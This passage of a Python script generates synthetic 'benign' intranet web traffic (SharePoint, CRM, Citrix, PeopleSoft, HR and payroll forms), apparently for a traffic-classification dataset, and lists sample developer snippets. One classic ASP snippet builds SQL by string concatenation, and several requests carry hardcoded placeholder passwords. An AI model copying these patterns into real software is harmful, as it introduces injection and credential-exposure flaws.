                     '<rowLimit>100</rowLimit><queryOptions><QueryOptions><IncludeMandatoryColumns>FALSE</IncludeMandatoryColumns>'
                     '<ViewAttributes Scope="Recursive"/></QueryOptions></queryOptions></GetListItems>') % xesc(lst)
            if r.random() < 0.5:
                add("benign", "sharepoint", "POST", site + "/_vti_bin/Lists.asmx",
                    [["Host", host], ["User-Agent", DOTNET_SOAP_UA], ["Content-Type", "text/xml; charset=utf-8"],
                     ["SOAPAction", '"http://schemas.microsoft.com/sharepoint/soap/GetListItems"'],
                     ["Authorization", "NTLM " + ntlm_type3(r, "CORP", "svc_sync", "APP0%d" % r.randint(1, 9))]], SOAP11 % inner)
            else:
                body = json.dumps({"query": {"__metadata": {"type": "SP.CamlQuery"}, "ViewXml": caml}})
                add("benign", "sharepoint", "POST", "%s/_api/web/lists/getbytitle('%s')/GetItems" % (site, quote(lst)),
                    browser(r, host, accept="application/json;odata=verbose", ctype="application/json;odata=verbose",
                            cookie=cookie, xhr=True, extra=[["X-RequestDigest", sp_digest(r)]]), body)
        elif k == 5:
            uri = "%s/%s/Forms/AllItems.aspx?RootFolder=%s&FolderCTID=0x012000%s&View=%s" % (
                site, quote(lst), quote("%s/%s/Policies/2019" % (site, lst), safe=""), rhex(r, 34, upper=True), quote(guid(r, braces=True, upper=True), safe=""))
            add("benign", "sharepoint", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 6:
            uri = "%s/_layouts/15/%s" % (site, r.choice([
                "userdisp.aspx?ID=%d" % r.randint(1, 900),
                "viewlsts.aspx?view=14",
                "listedit.aspx?List=%s" % quote(guid(r, braces=True, upper=True), safe=""),
                "start.aspx",
                "download.aspx?SourceUrl=%s" % quote("%s/Shared Documents/Org chart (Q3).pptx" % site, safe=""),
                "WopiFrame.aspx?sourcedoc=%s&file=%s&action=default" % (quote(guid(r, braces=True, upper=True), safe=""), quote("Budget 2019 v3.xlsx")),
                "osssearchresults.aspx?k=%s&cs=This%%20Site&u=%s" % (quote(r.choice(["leave policy", "O'Brien", "expense form"])), quote("https://%s%s" % (host, site), safe=""))]))
            add("benign", "sharepoint", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 7:
            uri = "%s/_api/search/query?querytext=%s&selectproperties=%s&rowlimit=20&sortlist=%s" % (
                site, quote("'%s'" % r.choice(["budget 2019", "leave policy", "author:\"O'Brien\"", "filetype:docx travel"]), safe="'"),
                quote("'Title,Path,Author,LastModifiedTime'", safe="'"), quote("'LastModifiedTime:descending'", safe="'"))
            add("benign", "sharepoint", "GET", uri, browser(r, host, accept="application/json;odata=verbose", cookie=cookie, xhr=True))
        elif k == 8:
            add("benign", "sharepoint", "POST", site + "/_api/contextinfo",
                browser(r, host, accept="application/json;odata=verbose", cookie=cookie, xhr=True,
                        extra=[["Content-Length", "0"]]), None)
        else:
            body = form([("__REQUESTDIGEST", sp_digest(r)), ("__EVENTTARGET", "ctl00$ctl40$g_%s$ctl00$toolBarTbl$RightRptControls$ctl00$ctl00$diidIOSaveItem" % guid(r).replace("-", "_")),
                         ("__EVENTARGUMENT", ""), ("MSOWebPartPage_PostbackSource", ""), ("MSOTlPn_SelectedWpId", ""),
                         ("MSOTlPn_View", "0"), ("MSOTlPn_ShowSettings", "False"), ("MSOGallery_SelectedLibrary", ""),
                         ("MSOSPWebPartManager_DisplayModeName", "Browse"), ("MSOLayout_InDesignMode", ""),
                         ("_wpSelected", ""), ("_wzSelected", "")] + wf_common(r, size_kb=r.choice([4, 9])) +
                        [("ctl00$ctl40$g_%s$ff11$ctl00$ctl00$TextField" % guid(r).replace("-", "_"), r.choice(["Room B2.14", "Projector request", "O'Brien - leave"])),
                         ("ctl00$ctl40$g_%s$ff21$ctl00$ctl00$DateTimeField$DateTimeFieldDate" % guid(r).replace("-", "_"), r.choice(DATES))])
            add("benign", "sharepoint", "POST", "%s/Lists/%s/NewForm.aspx?RootFolder=&Source=%s" % (site, quote(lst.replace(" ", "")), quote("https://%s%s/Lists/%s/AllItems.aspx" % (host, site, lst.replace(" ", "")), safe="")),
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), body)


# ---------------------------------------------------------------------------
# BENIGN: Dynamics CRM, Citrix StoreFront
# ---------------------------------------------------------------------------

def gen_benign_crm(n=12):
    r = rng_for("dynamics_crm")
    for i in range(n):
        host = r.choice(["crm.corp.local", "crm2016.fabrikam.internal"])
        org = r.choice(["/CorpCRM", "/Fabrikam", ""])
        k = i % 5
        auth = [["Authorization", "Negotiate " + kerberos_negotiate(r)]] if r.random() < 0.5 else []
        if k == 0:
            uri = "%s/api/data/v8.2/accounts?$select=%s&$filter=%s&$orderby=name%%20asc&$top=50" % (
                org, quote("name,accountnumber,telephone1", safe=","),
                quote(r.choice(["statecode eq 0 and contains(name,'Contoso')", "startswith(name,'O''Neill')",
                                "revenue gt 100000 and address1_country eq 'Ireland'"]), safe="'(),"))
            uri = uri.replace("$top=50", "$top=%d" % (50 * (1 + i // 5)))
            add("benign", "dynamics_crm", "GET", uri, browser(r, host, accept="application/json", extra=[["OData-MaxVersion", "4.0"], ["OData-Version", "4.0"], ["Prefer", 'odata.include-annotations="*"']] + auth))
        elif k == 1:
            fx = ('<fetch version="1.0" output-format="xml-platform" mapping="logical" distinct="false" count="%d">'
                  '<entity name="contact"><attribute name="fullname"/><attribute name="emailaddress1"/>'
                  '<order attribute="fullname" descending="false"/><filter type="and">'
                  '<condition attribute="statecode" operator="eq" value="0"/>'
                  '<condition attribute="lastname" operator="like" value="%s%%"/></filter></entity></fetch>') % (25 * (1 + i // 5), r.choice(["O'B", "Mac", "Van "]))
            uri = "%s/api/data/v8.2/contacts?fetchXml=%s" % (org, quote(fx, safe=""))
            add("benign", "dynamics_crm", "GET", uri, browser(r, host, accept="application/json", extra=auth))
        elif k == 2:
            uri = "%s/main.aspx?etc=%d&extraqs=%s&pagetype=entityrecord&id=%s" % (
                org, r.choice([1, 2, 112, 4200]), quote("?_gridType=%d&etc=1&id=%s&rskey=%d" % (r.randint(1, 5000), quote(guid(r, True, True), safe=""), r.randint(1, 999)), safe=""),
                quote(guid(r, True, True), safe=""))
            add("benign", "dynamics_crm", "GET", uri, browser(r, host, extra=auth))
        elif k == 3:
            inner = ('<Execute xmlns="http://schemas.microsoft.com/xrm/2011/Contracts/Services"><request i:type="b:WhoAmIRequest" '
                     'xmlns:a="http://schemas.microsoft.com/xrm/2011/Contracts" xmlns:b="http://schemas.microsoft.com/crm/2011/Contracts" '
                     'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><a:Parameters/><a:RequestId i:nil="true"/><a:RequestName>WhoAmI</a:RequestName></request></Execute>')
            add("benign", "dynamics_crm", "POST", org + "/XRMServices/2011/Organization.svc/web",
                browser(r, host, accept="application/xml, text/xml, */*", ctype="text/xml; charset=utf-8", xhr=True,
                        extra=[["SOAPAction", "http://schemas.microsoft.com/xrm/2011/Contracts/Services/IOrganizationService/Execute"]] + auth), SOAP11 % inner)
        else:
            body = json.dumps({"subject": r.choice(["Follow-up call", "Renewal quote Q3"]), "description": r.choice(NOTES),
                               "regardingobjectid_account@odata.bind": "/accounts(%s)" % guid(r), "scheduledend": "2019-06-30T17:00:00Z"})
            add("benign", "dynamics_crm", "POST", org + "/api/data/v8.2/tasks",
                browser(r, host, accept="application/json", ctype="application/json; charset=utf-8",
                        extra=[["OData-MaxVersion", "4.0"], ["OData-Version", "4.0"]] + auth), body)


def gen_benign_citrix(n=10):
    r = rng_for("citrix")
    for i in range(n):
        host = r.choice(["apps.corp.local", "citrix.fabrikam.com", "remote.example-corp.com"])
        csrf = rhex(r, 32, upper=True)
        cookie = "CtxsAuthId=%s; ASP.NET_SessionId=%s; CsrfToken=%s; CtxsDeviceId=%s" % (
            ralnum(r, 28, "abcdefghijklmnopqrstuvwxyz0123456789"), ralnum(r, 24, "abcdefghijklmnopqrstuvwxyz012345"), csrf, rhex(r, 32))
        ext = [["X-Citrix-IsUsingHTTPS", "Yes"], ["Csrf-Token", csrf]]
        k = i % 5
        if k == 0:
            add("benign", "citrix", "POST", "/Citrix/StoreWeb/Home/Configuration",
                browser(r, host, accept="application/xml, text/xml, */*; q=0.01", xhr=True, cookie=cookie, extra=ext + [["Content-Length", "0"]]), None)
        elif k == 1:
            add("benign", "citrix", "POST", "/Citrix/StoreWeb/Resources/List",
                browser(r, host, accept="application/json, text/javascript, */*; q=0.01", xhr=True, cookie=cookie,
                        ctype="application/x-www-form-urlencoded; charset=UTF-8", extra=ext), "format=json&resourceDetails=Default")
        elif k == 2:
            body = form([("username", "CORP\\" + r.choice(["jsmith", "kpatel"])), ("password", "Spring2019!"),
                         ("saveCredentials", "false"), ("loginBtn", "Log On"), ("StateContext", "")])
            add("benign", "citrix", "POST", "/Citrix/StoreWeb/ExplicitAuth/LoginAttempt",
                browser(r, host, accept="application/xml, text/xml, */*; q=0.01", xhr=True, cookie=cookie,
                        ctype="application/x-www-form-urlencoded; charset=UTF-8", extra=ext), body)
        elif k == 3:
            uri = "/Citrix/StoreWeb/Resources/LaunchIca/%s.%s.ica?CsrfToken=%s&IsUsingHttps=Yes&launchId=%d" % (
                b64(("Controller.%s" % r.choice(["Outlook 2016", "SAP Logon 750", "Notes 9"])).encode()).rstrip("="), rhex(r, 8), csrf, r.randint(10 ** 12, 10 ** 13))
            add("benign", "citrix", "GET", uri, browser(r, host, cookie=cookie))
        else:
            uri = r.choice(["/vpn/index.html", "/logon/LogonPoint/index.html", "/logon/LogonPoint/tmindex.html",
                            "/Citrix/StoreWeb/receiver/images/1x/CitrixStoreFront_auth_14B2E8.png"])
            add("benign", "citrix", "GET", uri, browser(r, host))


# ---------------------------------------------------------------------------
# BENIGN: PeopleSoft, mainframe gateways
# ---------------------------------------------------------------------------

PS_COMPONENTS = [
    ("EMPLOYEE", "HRMS", "ROLE_EMPLOYEE.HR_EE_PERS_INFO.GBL", "PORTAL_ROOT_OBJECT.HC_SELF_SERVICE.HC_PERSONAL_INFORMATION.HC_HR_EE_PERS_INFO_GBL"),
    ("EMPLOYEE", "HRMS", "ROLE_MANAGER.TL_MSS_EE_SRCH_PRD.GBL", "PORTAL_ROOT_OBJECT.ROLE_MANAGER.HC_TIME_MANAGEMENT.HC_TL_MSS_EE_SRCH_PRD_GBL"),
    ("EMPLOYEE", "ERP", "PROCESS_VOUCHERS.VCHR_EXPRESS.GBL", "PORTAL_ROOT_OBJECT.EPCO_ACCOUNTS_PAYABLE.EPAP_VOUCHERS.EPAP_VCHR_EXPRESS_GBL"),
    ("EMPLOYEE", "HRMS", "ROLE_EMPLOYEE.GP_SS_EE_PSLP.GBL", "PORTAL_ROOT_OBJECT.HC_SELF_SERVICE.HC_PAYROLL_COMPENSATION.HC_GP_SS_EE_PSLP_GBL"),
]


def gen_benign_peoplesoft(n=20):
    r = rng_for("peoplesoft")
    for i in range(n):
        host = r.choice(["hcm.corp.local:8443", "psfin.fabrikam.internal", "peoplesoft.example-corp.com"])
        portal, node, comp, folder = r.choice(PS_COMPONENTS)
        site = r.choice(["ps", "hrprd", "fsprd"])
        cookie = "%s; PS_LOGINLIST=https://%s/%s; %s; ExpirePage=https://%s/psp/%s/; PS_TOKENEXPIRE=%d_Mar_2019_09:%02d:%02d_GMT; %s-%d-PORTAL-PSJSESSIONID=%s" % (
            ps_token(r), host, site, PS_DEVICE, host, site, r.randint(1, 28), r.randint(0, 59), r.randint(0, 59),
            host.split(".")[0], r.choice([80, 8443]), ralnum(r, 32, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!-_"))
        k = i % 5
        if k == 0:
            uri = "/psp/%s/%s/%s/c/%s?FolderPath=%s&IsFolder=false&IgnoreParamTempl=FolderPath%%2cIsFolder" % (site, portal, node, comp, folder)
            add("benign", "peoplesoft", "GET", uri, browser(r, host, cookie=cookie))
        elif k == 1:
            uri = "/psc/%s/%s/%s/c/%s?Page=%s&Action=%s&EMPLID=%s&EMPL_RCD=0&PortalActualURL=%s" % (
                site, portal, node, comp, comp.split(".")[1] + "_PG", r.choice(["U", "A", "C"]), "%06d" % r.randint(1, 999999),
                quote("https://%s/psc/%s/%s/%s/c/%s" % (host, site, portal, node, comp), safe=""))
            add("benign", "peoplesoft", "GET", uri, browser(r, host, cookie=cookie))
        elif k in (2, 3):
            pairs = [("ICAJAX", "1"), ("ICNAVTYPEDROPDOWN", "0"), ("ICType", "Panel"), ("ICElementNum", "0"),
                     ("ICStateNum", str(r.randint(2, 60))), ("ICAction", r.choice(["#ICSave", "#ICSearch", "DERIVED_HR_SAVE_PB", "#ICRow2", "#KEY13", "#ICPanel3"])),
                     ("ICModelCancel", "0"), ("ICXPos", "0"), ("ICYPos", str(r.randint(0, 900))), ("ResponsetoDiffFrame", "-1"),
                     ("TargetFrameName", "None"), ("FacetPath", "None"), ("ICFocus", ""), ("ICSaveWarningFilter", "0"),
                     ("ICChanged", "-1"), ("ICSkipPending", "0"), ("ICAutoSave", "0"), ("ICResubmit", "0"),
                     ("ICSID", b64(rbytes(r, 30))), ("ICActionPrompt", "false"), ("ICBcDomData", "UnknownValue"),
                     ("ICPanelName", ""), ("ICFind", ""), ("ICAddCount", ""), ("ICAppClsData", ""),
                     ("PERSONAL_DATA_LAST_NAME", r.choice(PEOPLE)), ("ADDRESSES_ADDRESS1", r.choice(["14 Church St., Apt #3", "Rue de l'Église 7"])),
                     ("ADDRESSES_CITY", r.choice(["Lyon", "Cork", "Zürich"])), ("DERIVED_HR_EFFDT$0", r.choice(DATES))]
            add("benign", "peoplesoft", "POST", "/psc/%s/%s/%s/c/%s" % (site, portal, node, comp),
                browser(r, host, accept="*/*", ctype="application/x-www-form-urlencoded", cookie=cookie,
                        referer="https://%s/psc/%s/%s/%s/c/%s" % (host, site, portal, node, comp)), form(pairs))
        else:
            pairs = [("timezoneOffset", str(r.choice([-60, 0, 300]))), ("ptmode", "f"), ("ptlangcd", "ENG"),
                     ("ptinstalledlang", "ENG,FRA,GER"), ("userid", r.choice(["JSMITH", "KPATEL"])), ("pwd", "Welcome#1"),
                     ("ptlangsel", "ENG")]
            add("benign", "peoplesoft", "POST", "/psp/%s/?cmd=login&languageCd=ENG" % site,
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=PS_DEVICE), form(pairs))


def gen_benign_mainframe(n=10):
    r = rng_for("mainframe")
    for i in range(n):
        host = r.choice(["hats.corp.local:9443", "tn3270.fabrikam.internal"])
        k = i % 4
        js = "JSESSIONID=" + jsessionid(r, websphere=True)
        if k in (0, 1):
            pairs = [("hatsportletid", ""), ("CARETPOS", str(r.randint(1, 1920))), ("KeyboardToggle", "0"),
                     ("SESSIONNUMBER", str(r.randint(1, 4))), ("LINESIZE", "80"), ("COMMAND", r.choice(["[enter]", "[pf3]", "[pf8]", "[pf7]", "[clear]"])),
                     ("in_%d_8" % r.randint(100, 1900), r.choice(["DEPTNO", "CUST0042", "INV-2019"])),
                     ("in_%d_4" % r.randint(100, 1900), r.choice(["0001", "A", "X"])), ("CURSORPOSITION", str(r.randint(1, 1920)))]
            add("benign", "mainframe", "POST", "/HATSApp/entry",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=js), form(pairs))
        elif k == 2:
            uri = "/cics/cwba/dfhwbtta/%s?%s" % (r.choice(["CESN", "MENU", "INQ1"]), form([("acct", "%08d" % r.randint(1, 99999999)), ("fn", "INQ")]))
            add("benign", "mainframe", "GET", uri, browser(r, host, cookie=js))
        else:
            body = json.dumps({"CUSTNO": "%010d" % r.randint(1, 10 ** 9), "TRANCODE": "CINQ", "COMMAREA": "CINQ%010d%s" % (r.randint(1, 10 ** 9), " " * 40)})
            add("benign", "mainframe", "POST", "/zosConnect/services/custInquiry?action=invoke",
                [["Host", host], ["User-Agent", "Apache-HttpClient/4.5.13 (Java/1.8.0_281)"], ["Content-Type", "application/json"],
                 ["Authorization", "Basic " + b64(b"ZCONUSR:zc0nn3ct")]], body)


# ---------------------------------------------------------------------------
# BENIGN: intranet HR / payroll forms, Windows-1252 bytes, NTLM, static
# ---------------------------------------------------------------------------

def gen_benign_hr_forms(n=20):
    r = rng_for("hr_forms")
    for i in range(n):
        host = r.choice(["payroll.corp.local", "hr.contoso.local", "intranet.corp.local"])
        k = i % 5
        cookie = aspnet_session(r) + "; " + aspxauth(r)
        if k == 0:
            cph = "ctl00$MainContent"
            pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")] + wf_common(r, size_kb=r.choice([5, 14])) + [
                (cph + "$txtIBAN", r.choice(["DE89 3704 0044 0532 0130 00", "IE29AIBK93115212345678", "GB82 WEST 1234 5698 7654 32"])),
                (cph + "$txtBIC", r.choice(["COBADEFFXXX", "AIBKIE2D", "WESTGB2L"])),
                (cph + "$txtAccountHolder", r.choice(PEOPLE)), (cph + "$rblSplit", r.choice(["100", "50"])),
                (cph + "$chkConfirm", "on"), (cph + "$btnSubmit", "Submit change")]
            add("benign", "hr_forms", "POST", "/Payroll/DirectDeposit.aspx",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), form(pairs))
        elif k == 1:
            pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")] + wf_common(r, size_kb=r.choice([3, 7])) + [
                ("ctl00$cphMain$ddlLeaveType", r.choice(["Annual", "Sick", "Unpaid", "Parental"])),
                ("ctl00$cphMain$txtStart", r.choice(DATES)), ("ctl00$cphMain$txtEnd", r.choice(DATES)),
                ("ctl00$cphMain$txtHalfDay", r.choice(["AM", "PM", ""])), ("ctl00$cphMain$txtReason", r.choice(NOTES)),
                ("ctl00$cphMain$btnRequest", "Request leave")]
            add("benign", "hr_forms", "POST", "/HR/Leave/Request.aspx",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=cookie), form(pairs))
        elif k == 2:
            body = form1252([("Nachname", r.choice(["Müller", "Größer", "Weiß", "Schäfer"])), ("Vorname", r.choice(["Jürgen", "Björn", "Zoë"])),
                             ("Strasse", "Königsallee %d" % r.randint(1, 99)), ("Ort", r.choice(["Düsseldorf", "München", "Köln"])),
                             ("Bemerkung", r.choice(["Umzug zum 1. März – bitte Lohnsteuerklasse prüfen", "Kinderfreibetrag 0,5", "Überstunden: 12,5 Std."])),
                             ("absenden", "Änderung senden")])
            add("benign", "hr_forms", "POST", "/personal/stammdaten.asp",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=asp_session(r)), body)
        elif k == 3:
            body = json.dumps({"employeeId": r.randint(1000, 99999), "weekEnding": "2019-%02d-%02d" % (r.randint(1, 12), r.randint(1, 28)),
                               "entries": [{"project": "PRJ-%04d" % r.randint(1, 9999), "task": r.choice(["Design", "Testing", "Support"]),
                                            "hours": [8, 7.5, 8, 8, r.choice([4, 6])], "comment": r.choice(NOTES)}],
                               "submit": True})
            add("benign", "hr_forms", "POST", "/Timesheets/Week.aspx/Save",
                browser(r, host, accept="application/json, text/javascript, */*; q=0.01", ctype="application/json; charset=utf-8", xhr=True, cookie=cookie), body)
        else:
            uri = "/Payroll/Payslip.ashx?" + form([("period", "2019-%02d" % r.randint(1, 12)), ("emp", str(r.randint(1000, 99999))), ("format", "pdf")])
            add("benign", "hr_forms", "GET", uri, browser(r, host, cookie=cookie))


def gen_benign_win1252(n=15):
    r = rng_for("win1252")
    for i in range(n):
        host = r.choice(["intranet.corp.local", "hr.contoso.local", "apps.northwind.local"])
        k = i % 5
        if k == 0:
            # multipart from a windows-1252 page: text fields are raw cp1252 bytes
            bd = ie_boundary(r)
            parts = [("nom", r.choice(["Lefèvre", "Côté", "Façade Bâtiment B"]).encode("cp1252"), None, None),
                     ("commentaire", r.choice(["Réunion à 14h – salle « Montréal »", "Coût estimé : 1 250 €", "Œuvre d’art offerte par l’équipe"]).encode("cp1252"), None, None),
                     ("piece", b"%PDF-1.3\n" + rbytes(r, 400) + b"\n%%EOF\n", "facture_%d.pdf" % r.randint(1, 999), "application/pdf"),
                     ("envoyer", b"Envoyer", None, None)]
            hs = browser(r, host, ua=r.choice(IE11), ctype="multipart/form-data; boundary=" + bd, cookie=asp_session(r))
            add_raw("benign", "win1252", "POST", "/notes-de-frais/upload.asp", hs, multipart(parts, bd))
        elif k == 1:
            # CSV export from Excel (cp1252) uploaded to a payroll import page
            rows = ["Personalnr;Name;Vorname;Betrag;Währung;Bemerkung"]
            for _ in range(r.randint(5, 14)):
                rows.append("%05d;%s;%s;%d,%02d;EUR;%s" % (r.randint(1, 99999), r.choice(["Müller", "Schäfer", "Weiß", "Groß", "Ćosić"]),
                                                            r.choice(["Jürgen", "Zoë", "Renée", "Søren"]), r.randint(10, 3000), r.randint(0, 99),
                                                            r.choice(["Prämie Q3", "Fahrtkosten – März", "Überstunden", "Zuschuss „Jobticket“"])))
            csv = ("\r\n".join(rows) + "\r\n").encode("cp1252", errors="replace")
            bd = ie_boundary(r)
            parts = [("__VIEWSTATE", viewstate(r, 2048).encode(), None, None), ("__VIEWSTATEGENERATOR", vsgen(r).encode(), None, None),
                     ("ctl00$MainContent$fuImport", csv, "Prämien_%02d.csv" % r.randint(1, 12), "application/vnd.ms-excel"),
                     ("ctl00$MainContent$btnUpload", b"Importieren", None, None)]
            body = multipart(parts, bd)
            hs = browser(r, host, ua=r.choice(IE11), ctype="multipart/form-data; boundary=" + bd, cookie=aspnet_session(r))
            add_raw("benign", "win1252", "POST", "/Payroll/Import.aspx", hs, body)
        elif k == 2:
            # SOAP from an old client declaring ISO-8859-1 and sending latin-1 bytes
            inner = ("<UpdateEmployee xmlns=\"http://tempuri.org/\"><lastName>%s</lastName><city>%s</city><note>%s</note></UpdateEmployee>" % (
                r.choice(["Muñoz", "Gaëtan", "Åberg", "Frøland"]), r.choice(["Málaga", "Besançon", "Göteborg"]), r.choice(["Überstunden abgegolten", "Réf. n° 4471", "año fiscal 2019"])))
            xml = ('<?xml version="1.0" encoding="ISO-8859-1"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>%s</soap:Body></soap:Envelope>' % inner).encode("latin-1")
            hs = [["Host", host], ["User-Agent", r.choice(["Axis/1.4", "gSOAP/2.7", DOTNET_SOAP_UA])],
                  ["Content-Type", "text/xml; charset=ISO-8859-1"], ["SOAPAction", '"http://tempuri.org/UpdateEmployee"']]
            add_raw("benign", "win1252", "POST", "/Services/EmployeeService.asmx", hs, xml)
        elif k == 3:
            # text/plain form enctype (raw bytes, CRLF separated)
            txt = "name=%s\r\ndept=%s\r\nmessage=%s\r\n" % (r.choice(["Renée Dupré", "José Núñez"]), r.choice(["Comptabilité", "Contabilidad"]),
                                                            r.choice(["Merci pour l'accueil ! À bientôt", "¿Podéis revisar la nómina de marzo?"]))
            hs = browser(r, host, ua=r.choice(IE11), ctype="text/plain")
            add_raw("benign", "win1252", "POST", "/cgi-bin/feedback.pl", hs, txt.encode("cp1252"))
        else:
            # GET with latin-1 percent-encodings, as a windows-1252 page submits a GET form
            q = form1252([("nom", r.choice(["Pérez", "Gómez", "Lindström", "Ørsted"])), ("ville", r.choice(["Besançon", "Málaga", "Århus"])), ("page", "1")])
            add("benign", "win1252", "GET", "/annuaire/recherche.asp?" + q, browser(r, host, ua=r.choice(IE11 + IE_COMPAT), cookie=asp_session(r)))


def gen_benign_ntlm(n=15):
    r = rng_for("ntlm")
    for i in range(n):
        host = r.choice(INTRA_HOSTS + ["sp2013.corp.local", "crm.corp.local"])
        path = r.choice(["/", "/Default.aspx", "/sites/hr/default.aspx", "/HR/EmployeeList.aspx", "/ReportServer", "/_vti_bin/Lists.asmx", "/ews/Exchange.asmx", "/Microsoft-Server-ActiveSync?Cmd=Ping&User=jsmith&DeviceId=ABC123&DeviceType=iPhone"])
        k = i % 5
        if k == 0:
            auth = "NTLM " + ntlm_type1()
        elif k == 1:
            auth = "NTLM " + ntlm_type3(r, r.choice(["CORP", "FABRIKAM", "EU"]), r.choice(["jsmith", "Anne.OBrien", "kpatel", "svc_backup"]), r.choice(["WS-0142", "LT-BERLIN-07", "DESKTOP-4H2J9QK"]))
        elif k == 2:
            auth = "Negotiate " + kerberos_negotiate(r)
        elif k == 3:
            auth = "Negotiate " + ntlm_type3(r, "CORP", r.choice(["mmueller", "jdoe"]), "WS-%04d" % r.randint(1, 9999))
        else:
            auth = "Negotiate " + b64(b"\xa1\x81" + rbytes(r, 120))  # SPNEGO negTokenResp continuation
        hs = browser(r, host, ua=r.choice(IE11 + IE_COMPAT + ["Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)",
                                                               "Microsoft-WebDAV-MiniRedir/10.0.19041"]),
                     extra=[["Authorization", auth]])
        add("benign", "ntlm_auth", "GET", path, hs)


def gen_benign_static(n=15):
    r = rng_for("static")
    paths = ["/Scripts/jquery-1.4.2.min.js", "/Scripts/MicrosoftAjax.js", "/App_Themes/Default/Site.css",
             "/images/spacer.gif", "/favicon.ico", "/_layouts/15/images/spcommon.png?rev=23",
             "/_layouts/15/1033/styles/Themable/corev15.css?rev=2ylEg%2BxRvDIkNd1jRwIktQ%3D%3D",
             "/Content/ie7.css", "/css/PIE.htc", "/js/html5shiv.js", "/Style%20Library/en-us/Core%20Styles/controls.css",
             "/images/logo_corp.jpg", "/CFIDE/scripts/ajax/resources/ext/css/ext-all.css",
             "/OA_HTML/cabo/images/swan/t.gif", "/psp/ps/EMPLOYEE/HRMS/s/WEBLIB_PTBR.ISCRIPT1.FieldFormula.IScript_StartPage"]
    for i in range(n):
        host = r.choice(INTRA_HOSTS)
        p = paths[i % len(paths)]
        acc = "image/png, image/svg+xml, image/*;q=0.8, */*;q=0.5" if p.split("?")[0].endswith((".gif", ".png", ".jpg", ".ico")) else "*/*"
        hs = browser(r, host, accept=acc, extra=[["If-Modified-Since", "Tue, 1%d Mar 2016 08:21:33 GMT" % r.randint(0, 9)]] if r.random() < 0.4 else [])
        add("benign", "static", "GET", p, hs)


# ---------------------------------------------------------------------------
# DEV-CONTENT: code and config pasted into a wiki, a helpdesk, a review tool
# ---------------------------------------------------------------------------

SNIPPETS = [
    ("vbnet", r'''Dim conn As New SqlConnection(ConfigurationManager.ConnectionStrings("HRDB").ConnectionString)
Dim cmd As New SqlCommand("SELECT EmployeeId, LastName, FirstName FROM dbo.Employees WHERE DeptId = @dept ORDER BY LastName", conn)
cmd.Parameters.Add("@dept", SqlDbType.Int).Value = CInt(ddlDepartment.SelectedValue)
conn.Open()
GridView1.DataSource = cmd.ExecuteReader(CommandBehavior.CloseConnection)
GridView1.DataBind()'''),
    ("csharp", r'''protected void Page_Load(object sender, EventArgs e)
{
    if (!IsPostBack)
    {
        ViewState["SortExpression"] = "LastName";
        BindGrid();
    }
}

protected void GridView1_PageIndexChanging(object sender, GridViewPageEventArgs e)
{
    GridView1.PageIndex = e.NewPageIndex;   // __EVENTARGUMENT arrives as "Page$3"
    BindGrid();
}'''),
    ("classic-asp", r'''<%
Dim rs, sql, userName
userName = Replace(Trim(Request.Form("txtUser")), "'", "''")
sql = "SELECT UserId, FullName FROM tblUsers WHERE UserName = '" & userName & "'"
Set rs = conn.Execute(sql)
If Not rs.EOF Then
    Session("UserId") = rs("UserId")
    Response.Redirect "default.asp"
End If
%>
Yes I know - we are moving this to ADODB.Command with parameters next sprint.'''),
    ("java-struts", r'''public class SaveEmployeeAction extends DispatchAction {
    public ActionForward save(ActionMapping mapping, ActionForm form,
                              HttpServletRequest request, HttpServletResponse response) throws Exception {
        EmployeeForm f = (EmployeeForm) form;
        if (!isTokenValid(request, true)) {
            return mapping.findForward("duplicate");
        }
        employeeService.update(f.getEmployee());
        return mapping.findForward("success");
    }
}'''),
    ("jsp", r'''<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>
<%@ taglib prefix="fn" uri="http://java.sun.com/jsp/jstl/functions" %>
<p>You searched for: <c:out value="${param.q}"/></p>
<%-- old code was: <%= request.getParameter("q") %>  which the pen test flagged --%>
<c:forEach var="e" items="${employees}">
  <tr><td>${fn:escapeXml(e.lastName)}</td><td>${e.department}</td></tr>
</c:forEach>'''),
    ("coldfusion", r'''<cfquery name="qEmployee" datasource="hrdsn">
    SELECT emp_id, last_name, first_name, hire_date
    FROM employees
    WHERE emp_id = <cfqueryparam value="#url.empID#" cfsqltype="cf_sql_integer">
</cfquery>
<cfoutput query="qEmployee">
    #encodeForHTML(last_name)#, #encodeForHTML(first_name)# (since #dateFormat(hire_date, "dd/mm/yyyy")#)
</cfoutput>'''),
    ("plsql", r'''CREATE OR REPLACE PROCEDURE hr.raise_salary (p_emp_id IN NUMBER, p_pct IN NUMBER) AS
  v_sql VARCHAR2(400);
BEGIN
  v_sql := 'UPDATE employees SET salary = salary * (1 + :pct / 100) WHERE employee_id = :id';
  EXECUTE IMMEDIATE v_sql USING p_pct, p_emp_id;
  DBMS_OUTPUT.PUT_LINE(SQL%ROWCOUNT || ' row(s) updated');
  COMMIT;
EXCEPTION
  WHEN OTHERS THEN
    ROLLBACK;
    RAISE;
END raise_salary;
/'''),
    ("abap", r'''DATA: lt_pa0001 TYPE STANDARD TABLE OF pa0001,
      ls_pa0001 TYPE pa0001.

SELECT * FROM pa0001 INTO TABLE lt_pa0001
  WHERE pernr = p_pernr
    AND endda >= sy-datum
    AND begda <= sy-datum.

LOOP AT lt_pa0001 INTO ls_pa0001.
  WRITE: / ls_pa0001-pernr, ls_pa0001-kostl, ls_pa0001-orgeh.
ENDLOOP.'''),
    ("batch", r'''@echo off
REM nightly copy of the payroll exports to the archive share
net use Z: \\fs01\payroll$ /persistent:no
robocopy "D:\Exports\Payroll" "Z:\Archive\%DATE:~-4%" *.csv /MOV /R:3 /W:10 /LOG+:C:\Logs\payroll_copy.log
if errorlevel 8 (
    echo Copy failed >> C:\Logs\payroll_copy.log
    exit /b 1
)
